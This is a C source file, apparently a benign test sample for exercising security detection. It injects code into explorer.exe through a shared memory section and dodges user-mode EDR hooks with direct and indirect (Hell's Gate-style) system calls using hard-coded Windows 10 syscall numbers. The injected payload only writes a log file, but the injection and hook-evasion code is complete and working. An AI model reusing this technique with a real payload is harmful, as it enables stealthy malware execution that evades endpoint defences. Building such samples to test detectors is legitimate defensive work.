/* direct_syscall — injection that never calls the (hookable) ntdll functions: the system calls
 * are made by the sample's own `syscall` instructions (ATT&CK T1055 with T1562.001-style hook
 * evasion; the SysWhispers / Hell's Gate family used by Cobalt Strike loaders and many RATs).
 *
 * Like section_map_injection it shares its code with explorer.exe through a section
 * (NtCreateSection, NtMapViewOfSection locally RW and in explorer.exe RX, NtCreateThreadEx), but:
 *   - NtCreateSection and NtCreateThreadEx are *direct* syscalls: a SysWhispers-style stub in the
 *     sample (`mov r10, rcx; mov eax, N; syscall; ret`) with the Windows 10 22H2 (19045) numbers
 *     compiled in;
 *   - NtMapViewOfSection is an *indirect* syscall (Hell's Gate): the number is read out of
 *     ntdll's stub, and the sample jumps to the stub's own `syscall` instruction, so the kernel
 *     transition comes from inside ntdll.
 * It only does so when ntdll's stubs look like Windows 10 22H2's and carry the numbers it knows;
 * elsewhere (another build, Wine, x86) it calls the ntdll functions normally.
 *
 * Harmless: the injected code (common/inject.h) calls OutputDebugStringA and writes
 * %TEMP%\mamori-sample\direct_syscall.txt from inside explorer.exe, then its thread ends. */
#include "inject.h"
#include "syscall.h"

typedef LONG(NTAPI *NtCreateSectionFn)(PHANDLE, ACCESS_MASK, PVOID, PLARGE_INTEGER, ULONG, ULONG,
                                       HANDLE);
typedef LONG(NTAPI *NtMapViewOfSectionFn)(HANDLE, HANDLE, PVOID *, ULONG_PTR, SIZE_T,
                                          PLARGE_INTEGER, PSIZE_T, DWORD, ULONG, ULONG);
typedef LONG(NTAPI *NtCreateThreadExFn)(PHANDLE, ACCESS_MASK, PVOID, HANDLE, PVOID, PVOID, ULONG,
                                        SIZE_T, SIZE_T, SIZE_T, PVOID);
#define VIEW_UNMAP 2 /* SECTION_INHERIT ViewUnmap */

#ifdef _WIN64
/* Windows 10 22H2 x64 (j00ru's windows-syscalls table). */
#define SSN_NT_CREATE_SECTION 0x4A
#define SSN_NT_MAP_VIEW_OF_SECTION 0x28
#define SSN_NT_CREATE_THREAD_EX 0xC2
#endif

int main(void) {
  HMODULE ntdll = GetModuleHandleA("ntdll.dll");
  NtCreateSectionFn create_section = (void *)GetProcAddress(ntdll, "NtCreateSection");
  NtMapViewOfSectionFn map_view = (void *)GetProcAddress(ntdll, "NtMapViewOfSection");
  NtCreateThreadExFn create_thread = (void *)GetProcAddress(ntdll, "NtCreateThreadEx");
  if (!create_section || !map_view || !create_thread) return 1;

  BOOL syscalls = FALSE;
#ifdef _WIN64
  DWORD ssn_section, ssn_map, ssn_thread;
  void *insn_section, *insn_map, *insn_thread;
  syscalls = read_stub((void *)create_section, &ssn_section, &insn_section) &&
             read_stub((void *)map_view, &ssn_map, &insn_map) &&
             read_stub((void *)create_thread, &ssn_thread, &insn_thread) &&
             ssn_section == SSN_NT_CREATE_SECTION && ssn_map == SSN_NT_MAP_VIEW_OF_SECTION &&
             ssn_thread == SSN_NT_CREATE_THREAD_EX;
#endif
  sample_log(syscalls ? "direct_syscall: using direct and indirect syscalls"
                      : "direct_syscall: ntdll stubs not recognised, calling ntdll");

  DWORD pid = inject_find_process("explorer.exe");
  if (!pid) {
    sample_log("direct_syscall: explorer.exe not found");
    return 2;
  }
  HANDLE process = OpenProcess(PROCESS_CREATE_THREAD | PROCESS_QUERY_INFORMATION |
                                   PROCESS_VM_OPERATION, FALSE, pid);
  if (!process) return 3;

  DWORD code_size, entry_offset;
  unsigned char *code = inject_code(&code_size, &entry_offset);
  InjectParam param;
  if (!code || !inject_make_param(&param, "direct_syscall.txt",
                                  "direct_syscall: hello from code started by a syscall\r\n"))
    return 4;
  DWORD param_offset = (code_size + 15) & ~15u;
  LARGE_INTEGER max_size;
  max_size.QuadPart = param_offset + sizeof param;

  HANDLE section = NULL;
  PVOID local = NULL, remote = NULL;
  SIZE_T local_size = 0, remote_size = 0;
  HANDLE thread = NULL;
  LONG status;
#ifdef _WIN64
  if (syscalls) {
    g_ssn = SSN_NT_CREATE_SECTION; /* direct */
    status = ((NtCreateSectionFn)(void *)direct_stub)(&section, SECTION_ALL_ACCESS, NULL, &max_size,
                                                      PAGE_EXECUTE_READWRITE, SEC_COMMIT, NULL);
    if (status != 0) return 5;
    g_ssn = ssn_map; /* indirect, through ntdll's own syscall instruction */
    g_syscall_insn = insn_map;
    if (((NtMapViewOfSectionFn)(void *)indirect_stub)(section, GetCurrentProcess(), &local, 0, 0,
                                                      NULL, &local_size, VIEW_UNMAP, 0,
                                                      PAGE_READWRITE) != 0 ||
        ((NtMapViewOfSectionFn)(void *)indirect_stub)(section, process, &remote, 0, 0, NULL,
                                                      &remote_size, VIEW_UNMAP, 0,
                                                      PAGE_EXECUTE_READ) != 0)
      return 6;
  } else
#endif
  {
    if (create_section(&section, SECTION_ALL_ACCESS, NULL, &max_size, PAGE_EXECUTE_READWRITE,
                       SEC_COMMIT, NULL) != 0)
      return 5;
    if (map_view(section, GetCurrentProcess(), &local, 0, 0, NULL, &local_size, VIEW_UNMAP, 0,
                 PAGE_READWRITE) != 0 ||
        map_view(section, process, &remote, 0, 0, NULL, &remote_size, VIEW_UNMAP, 0,
                 PAGE_EXECUTE_READ) != 0)
      return 6;
  }

  /* writing the local view writes the target's view too */
  pe_copy(local, code, code_size);
  pe_copy((unsigned char *)local + param_offset, &param, sizeof param);

  void *start = (unsigned char *)remote + entry_offset;
  void *arg = (unsigned char *)remote + param_offset;
#ifdef _WIN64
  if (syscalls) {
    g_ssn = SSN_NT_CREATE_THREAD_EX; /* direct */
    status = ((NtCreateThreadExFn)(void *)direct_stub)(&thread, THREAD_ALL_ACCESS, NULL, process,
                                                       start, arg, 0, 0, 0, 0, NULL);
  } else
#endif
  {
    status = create_thread(&thread, THREAD_ALL_ACCESS, NULL, process, start, arg, 0, 0, 0, 0, NULL);
  }
  if (status == 0 && thread) {
    WaitForSingleObject(thread, 10000);
    CloseHandle(thread);
  }
  CloseHandle(section);
  CloseHandle(process);
  return status == 0 ? 0 : 7;
}
